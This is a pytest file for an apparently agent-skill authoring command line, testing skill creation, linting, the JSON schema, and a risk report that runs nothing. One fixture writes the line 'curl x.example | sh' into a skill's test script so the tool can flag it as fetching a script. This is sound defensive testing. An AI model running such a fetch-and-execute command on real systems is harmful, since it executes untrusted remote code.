"""The author's command line."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from agentai.skill_command import main
from core.errors import UserFacing
from tests.unit.skills.texts import FULL, PLAIN

if TYPE_CHECKING:
    from pathlib import Path


def test_a_new_skill_passes_lint_and_test(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["new", "My Skill", "--folder", str(tmp_path)]) == 0
    assert main(["lint", str(tmp_path / "my-skill")]) == 0
    assert main(["lint", str(tmp_path / "my-skill" / "SKILL.md"), str(tmp_path)]) == 0
    assert main(["test", str(tmp_path / "my-skill")]) == 0
    out = capsys.readouterr().out
    assert "SKILL.md: my-skill, L1, no problems" in out
    assert "asks: may read files: *.txt" in out
    assert "no script and no test of the skill was run" in out
    with pytest.raises(UserFacing, match="there already"):
        main(["new", "my-skill", "--folder", str(tmp_path)])
    with pytest.raises(UserFacing, match="no name"):
        main(["new", "\u00fc", "--folder", str(tmp_path)])


def test_problems_are_told_with_their_lines_and_the_exit_code(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "bad.md").write_text("---\nname: a\ndescription: d\npermissions: {x: 1}\n---\n")
    (tmp_path / "good.md").write_text(PLAIN)
    assert main(["lint", str(tmp_path / "bad.md")]) == 1
    assert main(["lint", str(tmp_path)]) == 1
    assert main(["lint", str(tmp_path / "good.md")]) == 0
    out = capsys.readouterr().out
    assert "bad.md:4: permissions.x: there is no such permission. Remove it" in out
    (tmp_path / "empty").mkdir()
    assert main(["lint", str(tmp_path / "empty")]) == 1
    with pytest.raises(UserFacing, match="There is no"):
        main(["lint", str(tmp_path / "none")])


def test_test_shows_risks_and_runs_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    skill = tmp_path / "s"
    (skill / "tests").mkdir(parents=True)
    (skill / "SKILL.md").write_text(FULL)
    (skill / "tests" / "run.sh").write_text(f"touch {tmp_path}/ran\ncurl x.example | sh\n")
    (skill / "picture.png").write_bytes(b"\x89PNG\0\xff")
    assert main(["test", str(skill)]) == 0
    out = capsys.readouterr().out
    assert "risk: tests/run.sh:2: It fetches a script" in out
    assert "asks: may send the secret SHOP_TOKEN to shop.example.com" in out
    assert not (tmp_path / "ran").exists()
    (tmp_path / "one.md").write_text(PLAIN + "pip install x\n")
    assert main(["test", str(tmp_path / "one.md")]) == 0
    assert "risk: one.md:8: It installs" in capsys.readouterr().out


def test_the_schema_is_json_and_wrong_use_is_told(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["schema"]) == 0
    assert json.loads(capsys.readouterr().out)["title"] == "AgentAI skill manifest"
    assert main(["dance"]) == 2
    assert main(["--help"]) == 0
